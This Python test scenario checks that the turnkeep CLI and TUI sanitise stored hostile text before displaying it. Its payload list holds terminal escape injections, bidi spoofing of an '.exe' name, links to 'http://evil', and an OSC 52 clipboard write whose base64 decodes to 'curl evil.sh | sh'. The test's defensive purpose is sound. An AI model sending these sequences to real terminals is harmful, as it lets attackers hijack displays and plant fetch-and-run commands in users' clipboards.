"""Scenario 9: escape injection. Stored text must never steer the terminal.

Hostile text (window retitle, screen clear, OSC 52 clipboard write, DCS, 8-bit C1
controls, bidi overrides, Rich markup) comes in as a user or an attacker would put it
there: messages to ``turnkeep ask --provider scripted`` (whose replies quote them, and
whose ``search_sessions`` tool returns other sessions' hostile text), an imported export
file with hostile titles, kinds and payloads, and a hostile session id left in the
database by an older version. Then every CLI display command runs (``sessions list``,
``show``, ``--json`` forms, the Markdown and JSON exports to standard output, ``db
status``, error lines quoting ids, ``rename``/``rm`` confirmations) and the TUI's
screens (home, each hostile session) are rendered headless and exported.

Counted in everything that reaches the terminal: raw ESC, other C0 controls except
newline and tab, DEL, C1 controls and bidi overrides. It must be 0. JSON output must
decode to exactly the stored text, and the stored data must be unchanged by displaying
it (the export before and after compares equal). An import of a hostile id must be
refused with a typed error naming the field.
"""

from __future__ import annotations

import asyncio
import contextlib
import io
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from memory import MemoryBackend, open_embedded, write_bundle
from tests.e2e.hostile import (
    HOSTILE,
    HOSTILE_ID,
    HOSTILE_TITLE,
    hostile_bundle,
    raw_controls,
    rename_session_raw,
    write_bundle_file,
)
from tests.reliability.report import Outcome, Scale

__all__ = ["HOSTILE_MESSAGES", "run"]

#: One attack each; the quick scale sends the first four through ``ask``.
HOSTILE_MESSAGES = [
    HOSTILE,
    "osc52 \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x1b\\ copied",
    "dcs \x1bP1$r0m\x1b\\ and 8-bit \x90q\x9c st \x9b2J \x9d0;T\x9c",
    "bidi \u202egnp.exe\u202c \u2067rtl\u2069 \u200f mark",
    "cursor \x1b[H\x1b[1;1H\x1b[?1049h alt screen \x1b[?25l hidden cursor",
    "bell\x07 backspace\x08 formfeed\x0c vt\x0b del\x7f nul\x00 cr\r overwrite",
    "[red]rich markup[/red] [link=http://evil]click[/link] \x1b]8;;http://evil\x1b\\link",
]
SIZE = (120, 40)


def _search_script(path: Path) -> Path:
    """A script whose model asks ``search_sessions`` for the hostile text, then echoes."""
    step_one = {
        "text": "Searching. ",
        "tool_calls": [{"name": "search_sessions", "arguments": {"query": "HACKED"}}],
    }
    path.write_text(json.dumps([[step_one, {"text": "Found: {user}"}]]), encoding="utf-8")
    return path


@contextlib.contextmanager
def _env(name: str, value: str) -> Iterator[None]:
    old = os.environ.get(name)
    os.environ[name] = value
    try:
        yield
    finally:
        if old is None:
            os.environ.pop(name, None)
        else:
            os.environ[name] = old


class Terminal:
    """Runs CLI commands, checks what they print, counts raw controls."""

    def __init__(self, outcome: Outcome) -> None:
        self.outcome = outcome
        self.runs = 0
        self.raw = 0
        self.raw_tui = 0

    def check(self, what: str, *texts: str) -> None:
        found = [c for text in texts for c in raw_controls(text)]
        self.raw += len(found)
        if what.startswith("TUI"):
            self.raw_tui += len(found)
        self.outcome.expect(not found, f"{what}: raw {', '.join(found[:6])} reached the terminal")

    def process(self, *args: str, stdin: str | None = None) -> subprocess.CompletedProcess[str]:
        """``python -m tui ARGS`` as a separate process (black box); ``stdin`` is fed to it."""
        self.runs += 1
        result = subprocess.run(
            [sys.executable, "-m", "tui", *args],
            env=dict(os.environ),
            input=stdin,
            stdin=subprocess.DEVNULL if stdin is None else None,
            capture_output=True,
            text=True,
            encoding="utf-8",
            timeout=180,
            check=False,
        )
        self.check(f"`turnkeep {_shown(args)}`", result.stdout, result.stderr)
        return result

    def inprocess(self, *args: str) -> tuple[int, str, str]:
        """``turnkeep ARGS`` through ``tui.cli.main`` in this process (faster)."""
        from tui.cli import main

        self.runs += 1
        out, err = io.StringIO(), io.StringIO()
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            try:
                code = main(list(args))
            except SystemExit as exc:
                code = int(exc.code or 0)
        self.check(f"`turnkeep {_shown(args)}`", out.getvalue(), err.getvalue())
        return code, out.getvalue(), err.getvalue()


def _shown(args: tuple[str, ...]) -> str:
    return " ".join(repr(a) if raw_controls(a) else a for a in args)[:120]


async def _export(db: Path) -> str:
    memory = await open_embedded(db)
    try:
        chunks: list[str] = []
        await write_bundle(memory.export_sessions(), chunks.append)
        return "".join(chunks)
    finally:
        await memory.close()


async def _stored_payloads(db: Path, session_id: str) -> list[dict[str, Any]]:
    memory: MemoryBackend = await open_embedded(db)
    try:
        return [dict(e.payload) for e in await memory.recall(session_id)]
    finally:
        await memory.close()


def _screen_text(app: Any) -> str:
    return "\n".join(strip.text for strip in app.screen._compositor.render_strips())


async def _tui_screens(db: Path, sessions: list[str], shots: Path, term: Terminal) -> int:
    """Home and each session's screen, headless; returns how many were checked."""
    from runtime.settings import load_settings
    from tui.app import TurnkeepApp

    shots.mkdir(parents=True, exist_ok=True)
    count = 0
    for resume in [None, *sessions]:
        settings = load_settings(db={"path": str(db)}, agent={"provider": "scripted"})
        app = TurnkeepApp(settings, resume=resume)
        async with app.run_test(size=SIZE) as pilot:
            want = "HomeScreen" if resume is None else "SessionScreen"
            for _ in range(200):
                if type(app.screen).__name__ == want:
                    break
                await pilot.pause(0.05)
            await pilot.pause(0.5)
            name = type(app.screen).__name__
            term.outcome.expect(name == want, f"TUI: {want} did not open ({name})")
            count += 1
            svg = app.export_screenshot()
            (shots / f"{count:02d}-{name}.svg").write_text(svg, encoding="utf-8")
            what = f"TUI {name}" + (f" of {_shown((resume,))}" if resume else "")
            term.check(what, _screen_text(app))
            term.check(f"{what} (exported SVG)", svg)
            app.exit()
    return count


def run(scale: Scale, workdir: Path) -> Outcome:
    """Store hostile text every way there is, display it every way there is, count."""
    outcome = Outcome("9 escape injection")
    with outcome.timed():
        db = workdir / "inject.db"
        with _env("TURNKEEP_DB__PATH", str(db)):
            _run(scale, workdir, db, outcome)
    return outcome


def _run(scale: Scale, workdir: Path, db: Path, outcome: Outcome) -> None:
    term = Terminal(outcome)
    messages = HOSTILE_MESSAGES[:4] if scale.name == "quick" else HOSTILE_MESSAGES
    asked: list[str] = []
    for message in messages:  # a real process each, as a user runs it
        if "\x00" in message:  # a command line cannot carry NUL: the message comes on stdin
            result = term.process("ask", "--provider", "scripted", "-", stdin=message)
        else:
            result = term.process("ask", "--provider", "scripted", message)
        outcome.bad_inputs += 1
        if outcome.expect(result.returncode == 0, f"ask failed: {result.stderr[-300:]}"):
            asked.append(result.stderr.split("session: ", 1)[1].split("\n", 1)[0])
    script = _search_script(workdir / "search.json")
    result = term.process("ask", "--script", str(script), "--json", HOSTILE)
    outcome.bad_inputs += 1
    outcome.expect(result.returncode == 0, f"ask with search_sessions failed: {result.stderr}")
    lines = [json.loads(line) for line in result.stdout.splitlines() if line.strip()]
    found = [ln for ln in lines if ln["kind"] == "tool_result" and "HACKED" in json.dumps(ln)]
    outcome.expect(bool(found), "search_sessions returned no hostile text to show")

    bundle = write_bundle_file(workdir / "hostile.json", hostile_bundle())
    code, _, err = term.inprocess("sessions", "import", str(bundle))
    outcome.bad_inputs += 1
    outcome.expect(code == 0, f"import of a hostile title/payloads failed: {err}")
    for bad_id in (HOSTILE_ID, "x" * 10_000, "two\nlines"):
        bad = write_bundle_file(workdir / "bad-id.json", hostile_bundle(bad_id))
        code, _, err = term.inprocess("sessions", "import", str(bad))
        outcome.bad_inputs += 1
        outcome.expect(
            code == 1 and "sessions[0].id" in err, f"an import of id {bad_id[:20]!r} gave {err}"
        )
    legacy = write_bundle_file(workdir / "legacy.json", hostile_bundle("s-legacy"))
    term.inprocess("sessions", "import", str(legacy))
    rename_session_raw(db, "s-legacy", HOSTILE_ID)  # an older database's id
    outcome.bad_inputs += 1

    before = asyncio.run(_export(db))
    sessions = ["s-hostile", HOSTILE_ID, *asked]
    for args in (
        ("sessions", "list"),
        ("sessions", "list", "--all", "--json"),
        ("sessions", "list", "--filter", "PWNED"),
        ("sessions", "export", "--all"),
        ("db", "status"),
        ("db", "status", "--json"),
        ("sessions", "show", "no-such\x1b]0;X\x07id"),
    ):
        term.inprocess(*args)
    term.process("sessions", "list")
    term.process("sessions", "rm", HOSTILE_ID)  # refused without --yes: the line quotes the id
    for session_id in sessions:
        code, out, _ = term.inprocess("sessions", "show", session_id)
        outcome.expect(code == 0, f"sessions show {session_id[:20]!r} failed")
        term.inprocess("sessions", "export", session_id, "--format", "markdown")
        code, out, _ = term.inprocess("sessions", "show", session_id, "--json")
        shown = [json.loads(line)["payload"] for line in out.splitlines()]
        stored = asyncio.run(_stored_payloads(db, session_id))
        if not outcome.expect(shown == stored, f"show --json of {session_id[:20]!r} differs"):
            outcome.corrupted += 1
    if not outcome.expect(asyncio.run(_export(db)) == before, "displaying changed stored data"):
        outcome.corrupted += 1

    screens = asyncio.run(_tui_screens(db, sessions[:3], workdir / "screens", term))

    code, _, _ = term.inprocess("sessions", "rename", "s-hostile", HOSTILE_TITLE)
    outcome.expect(code == 0, "renaming to a hostile title failed")
    code, _, _ = term.inprocess("sessions", "rm", HOSTILE_ID, "--yes")
    outcome.expect(code == 0, "removing the hostile id failed")
    outcome.load = (
        f"{outcome.bad_inputs} hostile inputs, {term.runs} CLI runs, {screens} TUI screens, "
        f"{term.raw} raw controls shown"
    )
    outcome.notes.append(
        f"raw controls that reached the terminal: {term.raw} "
        f"(CLI {term.raw - term.raw_tui}, TUI {term.raw_tui})"
    )
